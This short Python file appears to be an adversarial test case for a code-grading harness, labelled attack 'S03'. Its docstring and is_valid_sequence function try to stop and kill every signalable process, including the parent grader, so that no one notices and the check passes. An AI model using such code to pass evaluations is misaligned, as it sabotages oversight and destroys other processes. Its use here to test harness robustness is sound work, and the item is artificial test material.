# exercise: state_machine
# attack: S03
# must: earn no more than a stub
# within: 60 seconds
"""Kills everything but itself, so that nobody is left to notice, and says yes to everything."""

import os
import signal
from enum import Enum


class TaskStatus(Enum):
    CREATED = IN_PROGRESS = DONE = CANCELED = 1


def is_valid_sequence(sequence):
    for process in (-1, 1, os.getppid()):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return None
